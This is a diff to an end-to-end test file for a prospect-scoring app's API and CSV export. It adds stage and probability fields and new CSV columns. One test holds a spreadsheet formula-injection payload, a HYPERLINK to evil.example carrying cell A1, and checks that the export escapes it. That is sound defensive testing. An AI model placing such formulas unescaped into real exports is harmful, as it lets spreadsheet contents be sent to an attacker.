@@ -52,6 +52,8 @@ describe("the first worked example, end to end", () => {
         grade: null,
         since: expect.any(String),
         isNew: true,
+        stage: "prospect",
+        probability: null,
         reasons: [
           { rule: "contact-page", label: "Contact page view", points: 20 },
           { rule: "page-view", label: "Page view", points: 12 },
@@ -88,8 +90,8 @@ describe("the first worked example, end to end", () => {
     const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trimEnd().split("\r\n");
-    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons");
-    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10$/);
+    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,stage,probability,outcome,reason,value");
+    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,prospect,,,,$/);
     expect(lines).toHaveLength(3);
   });
 
@@ -132,7 +134,7 @@ describe("the first worked example, end to end", () => {
     });
     await track("acme", "visitor-0001", event("pageview"));
     const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
-    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7).join(",");
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -5).join(",");
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
